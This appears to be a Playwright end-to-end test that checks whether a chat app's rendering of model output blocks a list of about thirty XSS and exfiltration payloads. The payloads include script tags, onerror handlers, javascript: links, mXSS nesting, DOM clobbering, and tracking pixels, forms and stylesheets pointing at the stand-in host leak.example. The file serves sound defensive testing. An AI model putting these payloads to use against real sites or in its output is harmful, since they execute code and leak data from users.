"""Model output is hostile: nothing in it runs, nothing in it leaves, under the real policy in a real browser."""

from __future__ import annotations

import pytest
from playwright.sync_api import Request, expect

from tests.e2e.conftest import Begin, Kind
from tests.e2e.pages import ask, last_answer, wait_until_written
from tests.ollama_script import Answer
from tests.ollama_stand_in import StandIn

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(600)]

PAYLOADS = (
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 2'>",
    "<svg onload='window.ran = 3'><script>window.ran = 4</script></svg>",
    "<iframe srcdoc='<script>parent.ran = 5</script>'></iframe>",
    "<iframe src='javascript:parent.ran = 6'></iframe>",
    "<object data='javascript:window.ran = 7'></object>",
    "<embed src='javascript:window.ran = 8'>",
    "<a href='javascript:window.ran = 9' id=clickme>click</a>",
    "[click](javascript:window.ran=10)",
    "[click](  java\nscript:window.ran=11)",
    "[click](data:text/html,<script>window.ran=12</script>)",
    "![x](https://leak.example/pixel.png?secret=1)",
    "<img src='https://leak.example/pixel.png'>",
    "<link rel=stylesheet href='https://leak.example/a.css'>",
    "<style>@import 'https://leak.example/b.css'; body { display: none }</style>",
    "<div style='position:fixed;inset:0;background:url(https://leak.example/c)'>covered</div>",
    "<form action='https://leak.example' id=f><button>send</button></form>",
    "<base href='https://leak.example/'>",
    "<meta http-equiv=refresh content='0;url=https://leak.example'>",
    "<video src='https://leak.example/v.mp4' autoplay onloadstart='window.ran = 13'></video>",
    "<details open ontoggle='window.ran = 14'>x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror='window.ran = 15'></style></mglyph></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror='window.ran = 16'>\"></noscript>",
    "$\\href{javascript:window.ran=17}{x}$ $\\url{javascript:window.ran=18}$ $\\includegraphics{https://leak.example/k}$",
    "```html\n<script>window.ran = 19</script>\n```",
    "<input autofocus onfocus='window.ran = 20'>",
    "<p id=location>clobber</p><img name=body>",
    "<template><script>window.ran = 21</script></template>",
    "<a href='https://leak.example' ping='https://leak.example/ping' target=_top>link</a>",
    "<button popovertarget=p onclick='window.ran = 22'>b</button><div popover id=p>p</div>",
)


@pytest.mark.parametrize("kind", ["chromium", "window"])
def test_nothing_runs_and_nothing_leaves(begin: Begin, kind: Kind, ollama_stand_in: StandIn) -> None:
    text = "\n\n".join(PAYLOADS) + "\n\nThe end of it."
    # In pieces of seven characters, so that every tag is once half there.
    ollama_stand_in.answer = Answer(tokens=[text[start : start + 7] for start in range(0, len(text), 7)])
    asked: list[str] = []
    with begin(kind, OLLAMA_HOST=ollama_stand_in.host) as session:
        page = session.page

        def note(request: Request) -> None:
            asked.append(request.url)

        page.on("request", note)
        origin = page.evaluate("location.origin")
        ask(page, "Do your worst")
        expect(last_answer(page)).to_contain_text("The end of it.", timeout=60_000)
        wait_until_written(page)
        page.wait_for_timeout(500)
        assert page.evaluate("window.ran") is None
        answer = last_answer(page)
        assert (
            answer.locator("script, iframe, object, embed, form, base, meta, link, style, [onerror], [onload]").count()
            == 0
        )
        links = answer.locator("a").evaluate_all("links => links.map(a => [a.getAttribute('href') || '', a.rel])")
        for href, rel in links:
            assert not href.lower().replace("\n", "").strip().startswith(("javascript", "data")), href
            assert not href.startswith("http") or "noreferrer" in rel
        assert [url for url in asked if not url.startswith((origin, "data:", "blob:"))] == []
        # The page still works.
        ollama_stand_in.answer = Answer(tokens=("Still", " here."))
        ask(page, "Are you there?")
        expect(last_answer(page)).to_contain_text("Still here.", timeout=30_000)
        session.complaints.clear()  # the policy may have had to refuse something, which is what it is for
